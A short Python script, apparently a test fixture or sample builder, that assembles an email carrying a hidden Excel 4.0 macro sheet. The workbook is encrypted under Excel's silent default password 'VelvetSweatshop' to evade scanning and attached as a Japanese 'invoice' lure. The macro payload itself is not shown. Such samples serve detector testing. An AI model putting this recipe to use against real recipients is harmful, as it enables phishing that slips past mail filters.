# A hidden Excel 4.0 macro sheet in a workbook of 97 to 2003, behind the
# password that Excel tries unasked.
from office import *
from parts import *

book = cfb({"Workbook": sealed_workbook(xlm_workbook(),
                                        rc4_api("VelvetSweatshop"))})
message = mail(join([text_part("ご確認ください。"), file_part("請求書.xls", book)]))
